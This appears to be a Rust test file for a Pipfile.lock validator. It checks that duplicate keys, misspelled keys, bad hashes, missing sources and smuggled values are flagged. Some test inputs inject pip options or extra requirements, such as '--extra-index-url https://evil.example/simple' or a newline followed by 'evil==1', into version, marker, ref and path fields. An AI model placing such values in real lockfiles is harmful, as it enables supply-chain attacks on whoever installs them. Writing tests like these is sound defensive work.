use super::*;

#[test]
fn a_key_that_stands_twice_hides_the_first() {
    let text = r#"{"_meta": {"pipfile-spec": 6}, "default": {"evil": {"version": "==6"}}, "def\u0061ult": {"six": {"version": "==1", "version": "==2"}}}"#;
    let lockfile = parsed(text);
    assert_eq!(causes(&lockfile), ["keys stand twice"; 2]);
    let six = only(&lockfile);
    assert_eq!((six.name(), six.version()), ("six", Some("2")));
    let places: Vec<_> = lockfile.oddities.iter().map(|o| lockfile.file.slice(o.place)).collect();
    assert_eq!(places, ["default", "version"]);
}

#[test]
fn one_name_in_two_spellings() {
    let lockfile = of(r#""Foo_Bar": {"version": "==1"}, "foo-bar": {"version": "==2"}"#);
    assert_eq!(causes(&lockfile), ["packages are locked twice"]);
    assert_eq!(lockfile.oddities[0].package, Some(1));
}

#[test]
fn a_version_that_is_more_than_a_version() {
    for version in [
        r"==1.0\n--extra-index-url https://evil.example/simple",
        r"==1.0\u2028evil==6",
        "==1.0 --hash=sha256:0",
        "==1.0 # ",
        r"==1.0\u001b[2K",
        "-evil==1.0",
        "[evil]==1.0",
        " @ https://evil.example/six.zip",
        "1.0",
        "==1.0; python_version > '3'",
    ] {
        let lockfile = of(&format!(r#""six": {{"version": "{version}"}}"#));
        assert_eq!(causes(&lockfile), ["versions are no versions"], "{version}");
        assert_eq!(only(&lockfile).version(), None, "{version}");
    }
}

#[test]
fn other_values_that_reach_the_line() {
    for entry in [
        r#"{"version": "==1", "markers": "python_version > '3' # "}"#,
        r#"{"version": "==1", "markers": "python_version > '3' --hash=sha256:0"}"#,
        r#"{"version": "==1", "os_markers": "\nevil==1"}"#,
        r#"{"git": "https://a.example/six", "ref": "main\nevil==1"}"#,
        r#"{"git": "https://a.example/six", "subdirectory": "a\nevil==1"}"#,
        r#"{"file": "--extra-index-url=https://evil.example/simple"}"#,
        r#"{"path": ".\r-r evil.txt"}"#,
        r#""1.0\nevil==1""#,
    ] {
        let lockfile = of(&format!("\"six\": {entry}"));
        let cause = "values carry more than a value into the line that pip reads";
        assert_eq!(causes(&lockfile).first(), Some(&cause), "{entry}");
        assert_eq!(lockfile.oddities[0].package, Some(0), "{entry}");
    }
}

#[test]
fn markers_of_pipenv_are_healthy() {
    for marker in [
        "python_version >= '3.6' and python_full_version not in '3.0, 3.1, 3.2'",
        "sys_platform == 'win32' and platform_python_implementation != 'PyPy'",
        "platform_version == 'a-b' or extra == 'x#y'",
    ] {
        assert_eq!(causes(&of(&format!(r#""six": {{"version": "==1", "markers": "{marker}"}}"#))), [""; 0]);
    }
}

#[test]
fn names_and_extras_that_are_none() {
    for entry in [r#""six evil": {"version": "==1"}"#, r#""": {}"#, r#""six": {"extras": ["a]==1 #"]}"#] {
        assert_eq!(causes(&of(entry)), ["names could not be names of packages"], "{entry}");
    }
}

#[test]
fn hashes_that_are_none() {
    for (hashes, cause) in [
        (r#""sha256:abc""#, "digests are none"),
        (r#""0123""#, "digests are none"),
        (r#""sha256:""#, "digests are none"),
        (r#""sha256:zz --no-deps""#, "digests are none"),
        (r#""SHA256:00""#, "digests are of unknown algorithms"),
        ("", "lists of hashes are empty"),
    ] {
        let lockfile = of(&format!(r#""six": {{"version": "==1", "hashes": [{hashes}]}}"#));
        assert_eq!(causes(&lockfile), [cause], "{hashes}");
    }
    assert_eq!(causes(&of(r#""six": {"path": ".", "hashes": []}"#)), [""; 0]);
}

#[test]
fn keys_that_look_like_keys_that_count() {
    for entry in [r#"{"Hashes": []}"#, r#"{"hashs": []}"#, r#"{"versions": "==1"}"#, r#"{"marker": ""}"#] {
        assert_eq!(causes(&of(&format!("\"six\": {entry}"))), ["keys look like keys that count"], "{entry}");
    }
    let source = r#"{"url": "https://a.example", "verify-ssl": false}"#;
    assert_eq!(causes(&parsed(&text(&[source], ""))), ["keys look like keys that count"]);
    assert_eq!(causes(&of(r#""six": {"sys_platform": "== 'win32'"}"#)), [""; 0]);
}

#[test]
fn sources_that_do_not_exist_or_share_a_name() {
    let lockfile = of(r#""six": {"version": "==1", "index": "evil"}"#);
    assert_eq!(causes(&lockfile), ["packages name sources that do not exist"]);
    let twin = ACME.replace("\"acme\"", "\"pypi\"");
    assert_eq!(causes(&parsed(&text(&[PYPI, &twin], ""))), ["sources share a name"]);
}

#[test]
fn a_wheel_of_another_package() {
    let lockfile = of(r#""six": {"file": "https://a.example/evil-9.9-py3-none-any.whl"}"#);
    assert_eq!(causes(&lockfile), ["files are named after other packages"]);
}

#[test]
fn oddities_are_bounded() {
    let entries: Vec<String> = (0..3000).map(|_| r#""six": {}"#.to_owned()).collect();
    assert_eq!(of(&entries.join(",")).oddities.len(), 1001);
}
